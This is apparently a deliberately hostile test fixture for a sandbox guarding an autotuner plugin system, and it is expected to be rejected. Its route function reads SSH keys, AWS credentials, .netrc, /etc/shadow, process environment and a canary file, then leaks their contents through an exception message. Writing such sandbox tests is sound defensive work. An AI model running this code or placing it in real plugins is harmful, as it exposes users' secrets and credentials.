# Reads credential files and the planted canary, and puts them in its error message.
# expect: rejected builtin
# sandbox: contained
# weaker: process it runs as your user, so it reads and writes what you can
# ruff: noqa  (hostile on purpose: the code style is part of the attack)

TUNABLES = {}

PATHS = [
    "/tmp/autotuner_canary", "/root/.autotuner_canary", "/root/.ssh/id_rsa",
    "/root/.aws/credentials", "/root/.netrc", "/etc/shadow", "/proc/1/environ",
]


def route(request, cluster, params):
    found = []
    for path in PATHS:
        try:
            found.append(path + "=" + open(path).read())
        except Exception as exc:
            found.append(path + ":" + type(exc).__name__)
    raise ValueError(" ".join(found))
